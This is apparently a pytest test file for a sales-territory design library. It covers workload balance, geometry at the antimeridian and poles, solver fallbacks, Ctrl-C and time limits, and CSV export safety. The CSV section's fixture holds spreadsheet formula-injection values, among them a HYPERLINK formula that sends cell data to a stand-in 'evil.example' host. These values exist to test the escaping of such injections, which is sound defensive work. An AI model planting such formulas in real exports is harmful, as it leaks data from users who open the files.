"""Reliability: scale-free balance, valid geometry at the antimeridian and the poles, solver
faults (missing, failing), time limits and Ctrl-C inside solver calls, safe CSV exports."""

from __future__ import annotations

import os
import signal
import subprocess
import sys
import textwrap
import time
import warnings
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import numpy as np
import pandas as pd
import pulp
import pytest
from conftest import grid_customers, make_customers

import geoterr as gt
from geoterr.design import highs_model, highs_run
from geoterr.io.csv_safety import escape_text, raw_csv, restore_text
from geoterr.testing import assert_valid_plan
from geoterr.units.projection import to_lonlat

ROOT = Path(__file__).resolve().parents[1]


def quiet(call: Any) -> Any:
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", gt.GeoterrWarning)
        return call()


# ---------------------------------------------------------------- scale-free balance


@pytest.fixture(scope="module")
def small_customers() -> pd.DataFrame:
    return make_customers(60, seed=3)


def _scaled_plan(customers: pd.DataFrame, scale: float) -> gt.Plan:
    df = customers.assign(workload=customers["workload"] * scale)
    units = gt.build_units(gt.read_customers(df), "points", measures=["workload"])
    return quiet(lambda: gt.design(units, 4, balance={"workload": 0.05}, time_limit=20))


@pytest.fixture(scope="module")
def base_plan(small_customers: pd.DataFrame) -> gt.Plan:
    return _scaled_plan(small_customers, 1.0)


@pytest.mark.slow
@pytest.mark.parametrize("factor", [1e-12, 1e-300, 1e-8, 1e12])
def test_balance_is_scale_free(
    small_customers: pd.DataFrame, base_plan: gt.Plan, factor: float
) -> None:
    """The same customers with workloads x factor: the same status, deviations and plan
    (before the fix: x1e-12 "feasible" at +41 %, x1e-8 "violated")."""
    base, scaled = base_plan, _scaled_plan(small_customers, factor)
    assert scaled.status == base.status == "feasible"
    assert np.allclose(
        scaled.summary()["workload_deviation"], base.summary()["workload_deviation"], atol=1e-9
    )
    assert (scaled.assignment == base.assignment).all()
    assert scaled.objective == pytest.approx(base.objective * factor, rel=1e-6)
    units = gt.build_units(
        gt.read_customers(small_customers.assign(workload=small_customers["workload"] * factor)),
        "points",
        measures=["workload"],
    )
    assert_valid_plan(scaled, units, balance={"workload": 0.05})


@pytest.mark.slow
def test_broken_promise_reported_in_user_units() -> None:
    df = grid_customers()
    df["workload"] = 1e-300
    df.loc[0, "workload"] = 6e-300
    units = gt.build_units(gt.read_customers(df), "points", measures=["workload"])
    # the user's numbers in the message, not the rescaled ones: a proof that no plan exists
    # (when the search finishes in its time) or the broken promises of the best plan
    try:
        with warnings.catch_warnings(record=True) as caught:
            warnings.simplefilter("always")
            plan = gt.design(units, 4, balance={"workload": 0.05}, time_limit=10)
        assert plan.status == "violated"
        assert all("e-300" in p for p in plan.problems)
        assert any("target 6.25e-300" in str(w.message) for w in caught)
    except gt.InfeasibleError as exc:
        assert "[5.9375e-300, 6.5625e-300]" in str(exc)
    df.loc[0, "workload"] = 9e-300
    units = gt.build_units(gt.read_customers(df), "points", measures=["workload"])
    with pytest.raises(gt.InfeasibleError, match=r"\(7\.35e-300\).*holds 9e-300"):
        gt.design(units, 4, balance={"workload": 0.05})


# ---------------------------------------------------------------- antimeridian and poles


def _assert_valid_territories(plan: gt.Plan, units: gt.Units) -> None:
    territories = plan.territories
    assert territories.geometry.is_valid.all()
    # Back in the units' projection, every territory has the area of its units.
    back = territories.to_crs(units.crs).geometry.area
    cells = gt.units.unit_cells(units)
    for name in territories.index:
        members = plan.assignment.index[plan.assignment == name]
        expected = cells.loc[members].union_all().area
        assert back.loc[name] == pytest.approx(expected, rel=0.02), name


def test_antimeridian_territories_are_valid() -> None:
    rng = np.random.default_rng(1)
    lon = rng.uniform(177, 183, 80)
    df = pd.DataFrame(
        {
            "id": [f"F{i}" for i in range(80)],
            "lat": rng.uniform(-19, -16, 80),
            "lon": np.where(lon > 180, lon - 360, lon),
            "workload": rng.integers(1, 10, 80),
        }
    )
    units = gt.build_units(gt.read_customers(df), measures=["workload"])
    plan = quiet(lambda: gt.design(units, 4, balance={"workload": 0.1}, time_limit=20))
    _assert_valid_territories(plan, units)
    across = plan.territories.geometry.geom_type == "MultiPolygon"
    assert across.any()  # one territory is cut at 180 degrees, into valid pieces
    for shape in plan.territories.geometry[across]:
        assert all(part.bounds[2] - part.bounds[0] < 10 for part in shape.geoms)


def test_polar_territories_are_valid() -> None:
    rng = np.random.default_rng(2)
    df = pd.DataFrame(
        {
            "id": [f"P{i}" for i in range(80)],
            "lat": rng.uniform(84, 89.9, 80),
            "lon": rng.uniform(-180, 180, 80),
            "workload": rng.integers(1, 10, 80),
        }
    )
    units = gt.build_units(gt.read_customers(df), measures=["workload"])
    plan = quiet(lambda: gt.design(units, 4, balance={"workload": 0.1}, time_limit=20))
    _assert_valid_territories(plan, units)
    assert plan.territories.total_bounds[3] == pytest.approx(90.0)


def test_to_lonlat_keeps_ordinary_shapes() -> None:
    units = gt.build_units(gt.read_customers(make_customers(30)), measures=["workload"])
    plain = units.gdf[["geometry"]].to_crs(4326)
    assert to_lonlat(units.gdf[["geometry"]]).geometry.equals(plain.geometry)


# ---------------------------------------------------------------- solver faults


@pytest.fixture
def grid_units() -> gt.Units:
    return gt.build_units(gt.read_customers(grid_customers()), "points", measures=["workload"])


def test_highspy_missing_falls_back_to_cbc(
    grid_units: gt.Units, monkeypatch: pytest.MonkeyPatch
) -> None:
    real = pulp.listSolvers
    monkeypatch.setattr(
        pulp,
        "listSolvers",
        lambda onlyAvailable=False: [s for s in real(onlyAvailable) if s != "HiGHS"],
    )
    with pytest.warns(gt.GeoterrWarning, match="using CBC instead"):
        plan = gt.design(grid_units, 4, balance={"workload": 0.0}, time_limit=30)
    assert plan.status == "feasible" and plan.params["solver"] in ("COIN_CMD", "PULP_CBC_CMD")
    assert_valid_plan(plan, grid_units, balance={"workload": 0.0})


def test_no_solver_at_all_is_a_clear_error(
    grid_units: gt.Units, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(pulp, "listSolvers", lambda onlyAvailable=False: [])
    monkeypatch.setitem(sys.modules, "cbcbox", None)  # import fails
    monkeypatch.setattr(pulp.PULP_CBC_CMD, "available", lambda self: False)
    with pytest.raises(gt.SolverError, match="CBC is not available.*pip install"):
        quiet(lambda: gt.design(grid_units, 4, time_limit=10))


def test_highs_failing_falls_back_to_cbc(
    grid_units: gt.Units, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(highs_model, "_status", lambda h: "Solve error")
    with pytest.warns(gt.GeoterrWarning, match="HiGHS failed.*CBC instead"):
        plan = gt.design(grid_units, 4, balance={"workload": 0.0}, time_limit=30)
    assert_valid_plan(plan, grid_units, balance={"workload": 0.0})


def test_cbc_failing_is_a_clear_error(
    grid_units: gt.Units, monkeypatch: pytest.MonkeyPatch
) -> None:
    def crash(self: Any, solver: Any = None, **kwargs: Any) -> None:
        msg = "Pulp: Error while executing cbc"
        raise pulp.PulpSolverError(msg)

    monkeypatch.setattr(pulp.LpProblem, "solve", crash)
    with pytest.raises(gt.SolverError, match="failed.*solver='highs'"):
        gt.design(grid_units, 4, solver="cbc", time_limit=10)


class _Hook:
    """A callback list, as highspy's ``HighsCallback``."""

    def __init__(self) -> None:
        self.callbacks: list[Any] = []

    def subscribe(self, fn: Any) -> None:
        self.callbacks.append(fn)

    def unsubscribe(self, fn: Any) -> None:
        self.callbacks.remove(fn)


class _StuckHighs:
    """A stand-in for highspy.Highs whose solve ignores its time limit: it stops only when an
    interrupt callback asks it to."""

    geoterr_overrun = False

    def __init__(self, limit: float) -> None:
        self.limit, self.interrupted = limit, False
        self.cbSimplexInterrupt, self.cbIpmInterrupt, self.cbMipInterrupt = (
            _Hook(),
            _Hook(),
            _Hook(),
        )

    def getOptionValue(self, name: str) -> tuple[object, float]:
        return (None, self.limit)

    def interrupt(self) -> None:  # the callback event's method
        self.interrupted = True

    def run(self) -> None:
        while not self.interrupted:
            for fn in self.cbSimplexInterrupt.callbacks:
                fn(self)
            time.sleep(0.01)


def test_overrunning_solve_is_cancelled(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(highs_run, "OVERRUN_SECONDS", 0.2)
    stuck = _StuckHighs(0.3)
    start = time.perf_counter()
    highs_run.run_highs(stuck)
    assert stuck.interrupted and stuck.geoterr_overrun
    assert time.perf_counter() - start < 5
    assert not stuck.cbSimplexInterrupt.callbacks  # the hook is taken off again
    stuck.modelStatusToString = lambda status: "Interrupted by user"  # type: ignore[attr-defined]
    stuck.getModelStatus = lambda: None  # type: ignore[attr-defined]
    assert highs_run._status(stuck) == "Time limit reached"  # callers see a time limit


# A MIP HiGHS cannot finish in minutes (a market split instance), solved by each solver
# named on the command line in turn; "solving NAME" is printed right before each call.
HARD_MIP = """
import sys, time
import numpy as np
import highspy
import pulp
from geoterr.design.highs_run import _new_highs, run_highs
from geoterr.design.model import resolve_solver, solve_pulp

rng = np.random.default_rng(0)
a = rng.integers(0, 100, size=(5, 40))
b = a.sum(axis=1) // 2
limit = float(sys.argv[1])


def highs():
    h = _new_highs(limit)
    h.addVars(40, np.zeros(40), np.ones(40))
    h.changeColsIntegrality(40, np.arange(40, dtype=np.int32),
                            np.full(40, highspy.HighsVarType.kInteger))
    for i in range(5):
        h.addRow(float(b[i]), float(b[i]), 40, np.arange(40, dtype=np.int32), a[i].astype(float))
    run_highs(h)


def cbc():
    prob = pulp.LpProblem("split", pulp.LpMinimize)
    x = [pulp.LpVariable(f"x{j}", cat=pulp.LpBinary) for j in range(40)]
    prob += pulp.lpSum(x)
    for i in range(5):
        prob += pulp.lpSum(int(a[i, j]) * x[j] for j in range(40)) == int(b[i])
    solve_pulp(prob, resolve_solver("cbc", limit))


for name in sys.argv[2:]:
    start = time.perf_counter()
    print(f"solving {name}", flush=True)
    try:
        {"highs": highs, "cbc": cbc}[name]()
        print(f"{name} returned after {time.perf_counter() - start:.1f} s", flush=True)
    except KeyboardInterrupt:
        print(f"{name} interrupted after {time.perf_counter() - start:.1f} s", flush=True)
"""


def _start(script: str, *args: str) -> subprocess.Popen[str]:
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    return subprocess.Popen(
        [sys.executable, "-c", script, *args],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        env=env,
        start_new_session=True,  # its own process group, as a terminal's foreground job
    )


def _wait_for(proc: subprocess.Popen[str], text: str) -> str:
    assert proc.stdout is not None
    for line in proc.stdout:
        if text in line:
            return line
    msg = f"{text!r} never printed; stderr: {proc.stderr.read() if proc.stderr else ''}"
    raise AssertionError(msg)


def iter_until(stream: Any, text: str) -> Iterator[str]:
    """Yield the lines of ``stream`` up to and including the first that holds ``text``."""
    for line in stream:
        yield line
        if text in line:
            return
    msg = f"{text!r} never printed"
    raise AssertionError(msg)


def _seconds(line: str) -> float:
    return float(line.split(" after ")[1].split()[0])


@pytest.mark.slow
def test_ctrl_c_inside_highs_and_cbc_solves() -> None:
    """A real SIGINT to the process group (what Ctrl-C sends) stops each solve at once,
    as a KeyboardInterrupt, though the time limit is 300 s."""
    proc = _start(HARD_MIP, "300", "highs", "cbc")
    try:
        for name in ("highs", "cbc"):
            _wait_for(proc, f"solving {name}")
            time.sleep(1.5)
            os.killpg(proc.pid, signal.SIGINT)
            line = _wait_for(proc, f"{name} ")
            assert "interrupted after" in line, line
            assert _seconds(line) < 30
        proc.communicate(timeout=60)
    finally:
        if proc.poll() is None:
            os.killpg(proc.pid, signal.SIGKILL)
    assert proc.returncode == 0


@pytest.mark.slow
def test_time_limit_holds_inside_highs_and_cbc_solves() -> None:
    proc = _start(HARD_MIP, "2", "highs", "cbc")
    out, err = proc.communicate(timeout=120)
    assert proc.returncode == 0, err
    for name in ("highs", "cbc"):
        line = next(x for x in out.splitlines() if x.startswith(f"{name} "))
        assert "returned after" in line and _seconds(line) < 30, line


@pytest.mark.slow
def test_ctrl_c_during_a_cli_design(tmp_path: Path) -> None:
    rng = np.random.default_rng(0)
    n = 6000
    df = pd.DataFrame(
        {
            "id": [f"C{i}" for i in range(n)],
            "lat": rng.uniform(37, 40, n),
            "lon": rng.uniform(-100, -95, n),
            "workload": rng.integers(1, 50, n),
        }
    )
    df.to_csv(tmp_path / "c.csv", index=False)
    script = textwrap.dedent(
        """
        import sys
        from geoterr.cli import main
        print("solving", flush=True)
        sys.exit(main(sys.argv[1:]))
        """
    )
    proc = _start(
        script,
        "design",
        str(tmp_path / "c.csv"),
        "-k",
        "40",
        "--units",
        "points",
        "--balance",
        "workload:0.01",
        "--time-limit",
        "300",
        "--out",
        str(tmp_path / "plan"),
    )
    _wait_for(proc, "solving")
    assert proc.stderr is not None
    # Interrupt while the design runs (its rounds are reported on stderr), however fast it is.
    first = "".join(iter_until(proc.stderr, "round 2:"))
    os.killpg(proc.pid, signal.SIGINT)
    _, err = proc.communicate(timeout=60)
    err = first + err
    assert proc.returncode == 130, err
    assert "interrupted. Nothing was written." in err and "Traceback" not in err
    assert not (tmp_path / "plan").exists()


# ---------------------------------------------------------------- CSV formula injection


def test_formula_cells_are_neutralised_and_restored(tmp_path: Path) -> None:
    df = grid_customers()
    df.loc[0, "account_id"] = '=HYPERLINK("http://evil.example/?x="&A2,"click")'
    df.loc[1, "account_id"] = "+SUM(1,2)"
    df.loc[2, "account_id"] = "'=already quoted"
    df["note"] = ["@cmd", "-2+3", "\tTab", "plain"] + ["ok"] * 16
    units = gt.build_units(gt.read_customers(df), "points", measures=["workload"])
    plan = gt.design(units, 2, balance={"workload": 0.0}, time_limit=10)
    folder = plan.save(tmp_path / "plan", map=False)
    raw = (folder / "assignments.csv").read_text(encoding="utf-8")
    for line in raw.splitlines()[1:]:
        assert not line.startswith(("=", "+", "-", "@", "\t")), line
        assert ",=" not in line and ",@" not in line and ",+" not in line, line
    assert "'=HYPERLINK" in raw and "'+SUM" in raw and "''=already" in raw
    loaded = gt.load_plan(folder)
    assert loaded.customers is not None
    assert set(loaded.customers.index) == set(df["account_id"])
    assert loaded.customers.loc["G03", "note"] == "plain"
    assert loaded.customers.loc["+SUM(1,2)", "note"] == "-2+3"


def test_raw_csv_option(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    df = grid_customers()
    df.loc[0, "account_id"] = "=1+1"
    units = gt.build_units(gt.read_customers(df), "points", measures=["workload"])
    plan = gt.design(units, 2, balance={"workload": 0.0}, time_limit=10)
    with raw_csv():
        folder = plan.save(tmp_path / "a", map=False)
    assert "\n=1+1," in (folder / "assignments.csv").read_text(encoding="utf-8")
    monkeypatch.setenv("GEOTERR_RAW_CSV", "1")
    folder = plan.save(tmp_path / "b", map=False)
    assert "\n=1+1," in (folder / "assignments.csv").read_text(encoding="utf-8")


@pytest.mark.parametrize(
    "text", ["=x", "+1", "-1", "@a", "\tx", "\rx", "'=x", "''+x", "'x", "plain", "", "a=b"]
)
def test_escape_round_trip(text: str) -> None:
    safe = escape_text(text)
    assert restore_text(safe) == text
    assert not safe.startswith(("=", "+", "-", "@", "\t", "\r"))
